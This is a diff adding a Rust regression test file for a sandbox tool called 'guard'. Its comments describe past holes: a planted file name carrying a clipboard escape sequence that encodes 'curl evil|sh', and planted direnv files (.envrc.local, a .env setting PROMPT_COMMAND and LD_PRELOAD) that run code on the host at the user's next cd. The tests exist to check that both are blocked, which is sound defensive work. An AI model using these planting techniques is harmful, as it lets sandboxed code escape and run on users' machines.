@@ -1,0 +1,145 @@
+//! Review 9: what guard and the user's own tools do on the host with files
+//! the sandbox wrote (see each test's comment for the hole it once was).
+
+use crate::support::{Expect, HostMarker, each_mode, errno};
+use std::process::Command;
+
+/// `guard log` printed each event's fields as they were recorded, and a
+/// path is a name the sandbox chose: a file an earlier session planted
+/// (`.env.<ESC>]52;c;…<BEL>`, hidden by the next session's scan) put an
+/// escape sequence on the user's terminal when they read the log (OSC 52
+/// sets the clipboard; others retitle the window or hide lines). The exit
+/// summary escaped it already; now the log does too.
+#[test]
+fn the_session_log_shows_names_the_sandbox_chose_escaped() {
+    each_mode(|case| {
+        let plant = case.sh(
+            r#"printf 'x=1\n' > "$(printf '.env.\033]52;c;Y3VybCBldmlsfHNo\007\233')" && echo planted=1"#,
+        );
+        plant.fields(&[("planted", "1")]);
+        // The next session hides it, and logs that it did.
+        case.sh("true").expect_code(0);
+        let log = case.run(&["log"]);
+        log.expect_code(0);
+        assert!(
+            !log.stdout.contains(['\x1b', '\x07', '\u{9b}']),
+            "guard log wrote control characters:\n{}",
+            log.stdout.escape_debug()
+        );
+        assert!(
+            log.stdout.contains(r".env.\x1b]52;c;Y3VybCBldmlsfHNo\x07"),
+            "guard log does not name the hidden file:\n{}",
+            log.all()
+        );
+        // JSON escapes them itself.
+        let json = case.run(&["log", "--json"]);
+        json.expect_code(0);
+        assert!(
+            json.stdout.contains(r"\u001b]52;c;") && !json.stdout.contains('\x1b'),
+            "{}",
+            json.all()
+        );
+    });
+}
+
+/// direnv asks again before it runs a changed `.envrc`, and guard protects
+/// `.envrc`; but what an allowed `.envrc` loads runs without a question:
+/// `source_env_if_exists .envrc.local` (the usual place for personal
+/// settings, usually absent), `source ./scripts/env.sh`, and `dotenv`
+/// (whose `.env` is exported into the user's shell: `PROMPT_COMMAND`,
+/// `LD_PRELOAD`). The sandbox wrote them, and the user's next `cd` into the
+/// project ran its code on the host. Now they are protected like `.envrc`:
+/// read-only where present, moved aside where created.
+#[test]
+fn files_an_allowed_envrc_loads_cannot_be_planted() {
+    let direnv = |case: &crate::support::Case, args: &[&str]| {
+        Command::new("direnv")
+            .args(args)
+            .current_dir(case.project())
+            .env("HOME", case.home())
+            .env_remove("XDG_DATA_HOME")
+            .env_remove("XDG_CONFIG_HOME")
+            .env_remove("DIRENV_DIR")
+            .env_remove("DIRENV_FILE")
+            .env_remove("DIRENV_DIFF")
+            .env_remove("DIRENV_WATCHES")
+            .output()
+            .expect("direnv is needed on the host for this test (.ci/run installs it)")
+    };
+    each_mode(|case| {
+        case.write(
+            ".envrc",
+            "export FROM_ENVRC=1\n\
+             source_env_if_exists .envrc.local\n\
+             if [ -f tools/dev.sh ]; then source tools/dev.sh; fi\n\
+             dotenv_if_exists\n\
+             source_env config  # config/.envrc\n",
+        );
+        case.write("tools/dev.sh", "export FROM_DEV=1\n");
+        case.write("config/.envrc", "export FROM_CONFIG=1\n");
+        let allow = direnv(&case, &["allow", "."]);
+        assert!(allow.status.success(), "direnv allow: {allow:?}");
+
+        let local = HostMarker::new("envrc-local");
+        let dev = HostMarker::new("envrc-dev");
+        let config = HostMarker::new("envrc-config");
+        let dotenv = HostMarker::new("envrc-dotenv");
+        let (l, d, c, e) = (local.path(), dev.path(), config.path(), dotenv.path());
+        case.write_python(&format!(
+            r#"
+def write(name, text, mode="w"):
+    def f():
+        with open(name, mode) as fh:
+            fh.write(text)
+    return err(f)
+out("local", write(".envrc.local", "touch {l}\n"))
+out("dev", write("tools/dev.sh", "touch {d}\n", "a"))
+out("config", write("config/.envrc", "touch {c}\n", "a"))
+out("dotenv", write(".env", "PROMPT_COMMAND='touch {e}'\nLD_PRELOAD={e}\n"))
+import time; time.sleep(0.5)
+out("local_now", os.path.exists(".envrc.local"))
+out("dotenv_now", os.path.exists(".env"))
+"#
+        ));
+        let out = case.run_python();
+        out.fields(&[
+            ("local", "0"),
+            ("dev", errno::EROFS),
+            ("config", errno::EROFS),
+            ("dotenv", "0"),
+            // Created, then moved aside by the watch.
+            ("local_now", "False"),
+            ("dotenv_now", "False"),
+        ]);
+        assert!(
+            out.stderr.contains(".envrc.local (a protected path"),
+            "{}",
+            out.all()
+        );
+
+        // The user's next `cd` into the project, on the host.
+        let load = direnv(
+            &case,
+            &[
+                "exec",
+                ".",
+                "sh",
+                "-c",
+                "echo PC=$PROMPT_COMMAND; echo LP=$LD_PRELOAD; echo D=$FROM_DEV$FROM_CONFIG",
+            ],
+        );
+        let stdout = String::from_utf8_lossy(&load.stdout);
+        assert!(
+            load.status.success() && stdout.contains("D=11"),
+            "direnv did not load the project's .envrc: {load:?}"
+        );
+        local.assert_absent("the planted .envrc.local");
+        dev.assert_absent("code appended to a script .envrc sources");
+        config.assert_absent("code appended to an .envrc source_env loads");
+        assert!(
+            stdout.contains("PC=\n") && stdout.contains("LP=\n"),
+            "ESCAPE: the sandbox's .env reached the host shell:\n{stdout}"
+        );
+        dotenv.assert_absent("the planted .env");
+    });
+}
